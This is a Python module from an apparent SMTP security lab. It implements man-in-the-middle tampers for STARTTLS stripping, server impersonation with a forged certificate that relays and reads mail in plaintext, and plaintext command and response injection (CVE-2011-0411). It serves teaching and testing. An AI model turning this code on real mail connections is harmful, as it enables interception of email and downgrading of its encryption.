"""The attacks of the threat lab, as wire-tap tampers (`sandbox.wire.tamper.Tamper`).

Each class is one man in the middle; `sandbox.lab.threatlab` turns them into scenarios. They only
ever run when a lab turns them on, and each says what it does on screen with a
`Notice(level=Level.ATTACK)` as it does it (properties.md I7).

- `Strip`: deletes STARTTLS from the server's EHLO reply, or lets it stand and answers the
  client's STARTTLS itself with 454 or 502. The STARTTLS command never reaches the server.
- `Impersonate`: answers the client's STARTTLS itself ("220"), then the TLS handshake, with a
  certificate of its own (`sandbox.threats.impostor`); it relays in plaintext to the real server and
  reads everything in between.
- `InjectCommand`: appends a plaintext `MAIL FROM` to the client's STARTTLS, in the same write
  (CVE-2011-0411): a correct server discards it (B1).
- `InjectResponse`: appends plaintext reply lines to the server's 220: a correct client refuses
  to read them as coming from inside TLS (F3).

The plaintext attacks work on whole lines: a partial line is held until its end arrives, so the
way TCP splits the stream changes nothing. Once TLS begins they step aside.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl

from sandbox.events import Level, Notice
from sandbox.safety.text import escape_bytes
from sandbox.threats.impostor import Identity, attacker_context
from sandbox.threats.outcome import Exposure, SmtpReader, attacker_in_tls, attacker_read
from sandbox.wire.tamper import CHUNK, TakeOver, Tamper, TapControl

MAX_HELD = 64 * 1024  # a "line" longer than this is passed on as it is
HANDSHAKE_TIMEOUT = 10.0
EVIL_SENDER = "evil@attacker.test"
INJECTED_COMMAND = f"MAIL FROM:<{EVIL_SENDER}>\r\n".encode("ascii")
# A forged EHLO reply with no extensions: a client that read it as coming from inside TLS would
# take it for the answer to its next EHLO, and every reply after that would be off by one.
INJECTED_RESPONSE = b"250-sandbox.test\r\n250 HELP\r\n"


def _attack(conn: TapControl, text: str) -> None:
    conn.emit(Notice(level=Level.ATTACK, text=text))


def _show(line: bytes) -> str:
    return escape_bytes(line.rstrip(b"\r\n"))


def _is_command(line: bytes, verb: bytes) -> bool:
    return line.rstrip(b"\r\n").strip().upper() == verb


def _final_code(line: bytes) -> bytes | None:
    body = line.rstrip(b"\r\n")
    if len(body) >= 3 and body[:3].isdigit() and body[3:4] in (b"", b" "):
        return body[:3]
    return None


class LineBuffer:
    """Cuts a byte stream into whole lines (line ends kept); holds an incomplete last line."""

    def __init__(self) -> None:
        self._held = bytearray()

    def feed(self, data: bytes) -> list[bytes]:
        self._held += data
        lines = bytes(self._held).split(b"\n")
        rest = lines.pop()
        self._held = bytearray(rest)
        out = [line + b"\n" for line in lines]
        if len(self._held) > MAX_HELD:
            out.append(bytes(self._held))
            self._held.clear()
        return out

    def take(self) -> bytes:
        """Whatever is held, released (when the stream stops being lines)."""
        rest, self._held = bytes(self._held), bytearray()
        return rest


class LineTamper(Tamper):
    """Plaintext SMTP, line by line, until `step_aside()`; then bytes pass untouched.

    Subclasses override `client_line` / `server_line`, which return the bytes to forward in the
    line's place. `self.smtp` follows the conversation, so a message line that happens to read
    "STARTTLS" is never taken for the command.
    """

    def __init__(self) -> None:
        self._client = LineBuffer()
        self._server = LineBuffer()
        self._aside = False
        self.smtp = SmtpReader()

    def step_aside(self) -> None:
        self._aside = True

    def client_data(self, data: bytes, conn: TapControl) -> bytes:
        if self._aside:
            return data
        out = bytearray()
        lines = self._client.feed(data)
        for i, line in enumerate(lines):
            if self._aside:  # TLS begins: the rest is no longer lines
                out += b"".join(lines[i:]) + self._client.take()
                break
            command = not self.smtp.in_data
            self.smtp.client(line.rstrip(b"\r\n").decode("latin-1"))
            out += self.client_line(line, conn) if command else line
        else:
            if self._aside:  # the last line started TLS: a held partial is TLS too
                out += self._client.take()
        return bytes(out)

    def server_data(self, data: bytes, conn: TapControl) -> bytes:
        if self._aside:
            return data
        out = bytearray()
        lines = self._server.feed(data)
        for i, line in enumerate(lines):
            if self._aside:
                out += b"".join(lines[i:]) + self._server.take()
                break
            self.smtp.server(line.rstrip(b"\r\n").decode("latin-1"))
            out += self.server_line(line, conn)
        else:
            if self._aside:
                out += self._server.take()
        return bytes(out)

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        return line

    def server_line(self, line: bytes, conn: TapControl) -> bytes:
        return line


class StartTlsEraser:
    """Deletes the STARTTLS line from EHLO replies, keeping each reply well formed."""

    def __init__(self) -> None:
        self._pending: bytes | None = None  # a "250-" line held until we know the next one

    def line(self, line: bytes) -> tuple[bytes, bool]:
        """The bytes to forward in `line`'s place, and whether it was the STARTTLS line."""
        body = line.rstrip(b"\r\n")
        if body[:4] in (b"250-", b"250 ") and body[4:].strip().upper() == b"STARTTLS":
            if body[3:4] == b" " and self._pending is not None:
                # STARTTLS was the last line: the one before it now ends the reply.
                held, self._pending = self._pending, None
                return held[:3] + b" " + held[4:], True
            return b"", True
        out, self._pending = self._pending or b"", None
        if body[3:4] == b"-":
            self._pending = line
            return out, False
        return out + line, False


class Strip(LineTamper):
    """STARTTLS stripping: `reply=None` deletes it from the EHLO reply; with a reply such as
    `b"454 4.7.0 TLS not available"` the EHLO stands and the attacker answers STARTTLS himself.

    Either way the client's STARTTLS never reaches the server, so the server's side stays
    plaintext. (Deleting it, the attacker answers a STARTTLS sent anyway with 502, as a server
    without TLS would.)
    """

    NOT_RECOGNIZED = b"502 5.5.2 Error: command not recognized"

    def __init__(self, reply: bytes | None = None) -> None:
        super().__init__()
        self.reply = reply or self.NOT_RECOGNIZED
        self._eraser = StartTlsEraser() if reply is None else None

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        if not _is_command(line, b"STARTTLS"):
            return line
        reply = self.reply.decode("ascii")
        _attack(conn, f"The attacker answers STARTTLS with '{reply}' in the server's place.")
        conn.send_to_client(self.reply + b"\r\n")
        return b""  # the server never hears of it

    def server_line(self, line: bytes, conn: TapControl) -> bytes:
        if self._eraser is None:
            return line
        out, erased = self._eraser.line(line)
        if erased:
            _attack(conn, f"The attacker deleted '{_show(line)}' from the server's EHLO reply.")
        return out


class InjectCommand(LineTamper):
    """Appends a plaintext MAIL FROM to the client's STARTTLS, in the same write (B1)."""

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        if not _is_command(line, b"STARTTLS"):
            return line
        self.step_aside()
        # The eavesdropper sees it cross toward the server, right after the STARTTLS line.
        conn.show_to_server(INJECTED_COMMAND)
        _attack(
            conn,
            f"The attacker appends '{_show(INJECTED_COMMAND)}' to the client's STARTTLS, in the "
            "same write: a server that kept it would run it as if it came from inside TLS.",
        )
        return line + INJECTED_COMMAND


class InjectResponse(LineTamper):
    """Appends plaintext reply lines to the server's 220 to STARTTLS (F3)."""

    def __init__(self) -> None:
        super().__init__()
        self._asked = False

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        self._asked = _is_command(line, b"STARTTLS")
        return line

    def server_line(self, line: bytes, conn: TapControl) -> bytes:
        code = _final_code(line)
        if not self._asked or code is None:
            return line
        self._asked = False
        if code != b"220":
            return line
        self.step_aside()
        _attack(
            conn,
            "The attacker appends a forged EHLO reply to the server's 220, in plaintext: a client "
            "that kept it would read it as the server's first words inside TLS.",
        )
        return line + INJECTED_RESPONSE


class Impersonate(LineTamper):
    """A man in the middle with his own certificate (see the module docstring)."""

    READY = b"220 2.0.0 Ready to start TLS\r\n"

    def __init__(self, identity: Identity) -> None:
        super().__init__()
        self.identity = identity
        self._context: ssl.SSLContext | None = None

    def opened(self, conn: TapControl) -> None:
        try:
            self._context = attacker_context(self.identity)
        except (OSError, ValueError) as exc:  # the data dir is not writable, say
            conn.emit(Notice(level=Level.ERROR, text=f"The attack could not start: {exc}"))
            conn.close()

    def client_line(self, line: bytes, conn: TapControl) -> bytes:
        if self._context is None or not _is_command(line, b"STARTTLS"):
            return line
        self.step_aside()
        _attack(
            conn,
            "The attacker keeps the client's STARTTLS from the server, answers '220' himself "
            "and will answer the TLS handshake with his own certificate.",
        )
        conn.send_to_client(self.READY)
        conn.take_over(self._relay)
        return b""

    async def _relay(self, takeover: TakeOver) -> None:
        conn = takeover.conn
        assert self._context is not None
        try:
            reader, writer = await takeover.client_streams(
                ssl=self._context, handshake_timeout=HANDSHAKE_TIMEOUT
            )
        except (OSError, TimeoutError) as exc:  # ssl.SSLError is an OSError
            reason = getattr(exc, "reason", None) or str(exc) or type(exc).__name__
            _attack(
                conn,
                f"The client refused the attacker's certificate ({reason}): the attack failed "
                "and nothing was relayed.",
            )
            return
        tls: ssl.SSLObject | None = writer.get_extra_info("ssl_object")
        version = tls.version() if tls is not None else "TLS"
        conn.emit(
            attacker_in_tls(
                f"the client accepted his certificate ({version}). From here he decrypts what "
                "the client sends and relays it in plaintext to the real server."
            )
        )
        to_server = asyncio.create_task(self._from_client(reader, takeover, conn))
        try:
            await self._from_server(takeover.server_reader, writer)
        finally:
            to_server.cancel()
            with contextlib.suppress(asyncio.CancelledError, OSError):
                await to_server

    async def _from_client(
        self, reader: asyncio.StreamReader, takeover: TakeOver, conn: TapControl
    ) -> None:
        lines, size, subject = LineBuffer(), 0, ""
        server = takeover.server_writer
        while data := await reader.read(CHUNK):
            for line in lines.feed(data):
                text = line.rstrip(b"\r\n").decode("latin-1")
                done = self.smtp.messages
                exposure = self.smtp.client(text)
                if exposure is Exposure.MESSAGE:
                    size += len(line)
                    if not subject and text.lower().startswith("subject:"):
                        subject = _show(line)
                elif self.smtp.messages > done:
                    about = f" ({subject})" if subject else ""
                    conn.emit(attacker_read(Exposure.MESSAGE, f"{size} bytes{about}"))
                    size, subject = 0, ""
                elif exposure is not None:
                    conn.emit(attacker_read(exposure, _show(line)))
            server.write(data)
            await server.drain()
        if server.can_write_eof():
            server.write_eof()

    async def _from_server(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        # The real server speaks plaintext to the attacker, so its EHLO lists STARTTLS: erase it,
        # or the client would see an odd offer inside TLS.
        eraser, lines = StartTlsEraser(), LineBuffer()
        while data := await reader.read(CHUNK):
            out = bytearray()
            for line in lines.feed(data):
                self.smtp.server(line.rstrip(b"\r\n").decode("latin-1"))
                out += eraser.line(line)[0]
            writer.write(bytes(out))
            await writer.drain()
